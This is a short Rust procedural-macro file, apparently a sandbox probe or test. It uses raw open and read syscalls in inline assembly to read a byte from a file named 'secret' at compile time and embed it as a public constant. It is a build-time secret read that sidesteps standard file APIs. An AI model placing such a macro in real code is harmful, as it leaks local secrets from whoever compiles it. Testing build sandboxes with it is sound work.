extern crate proc_macro;
use proc_macro::TokenStream;
use std::arch::asm;
unsafe fn call(number: isize, a: isize, b: isize, c: isize) -> isize {
    let mut result = number;
    asm!("syscall", inout("rax") result, in("rdi") a, in("rsi") b, in("rdx") c, lateout("rcx") _, lateout("r11") _);
    result
}
#[proc_macro]
pub fn peek(_: TokenStream) -> TokenStream {
    let mut text = [0u8; 1];
    unsafe {
        let fd = call(2, b"secret\0".as_ptr() as isize, 0, 0);
        call(0, fd, text.as_mut_ptr() as isize, 1);
    }
    format!("pub const SECRET: &[u8] = &{text:?};").parse().unwrap()
}
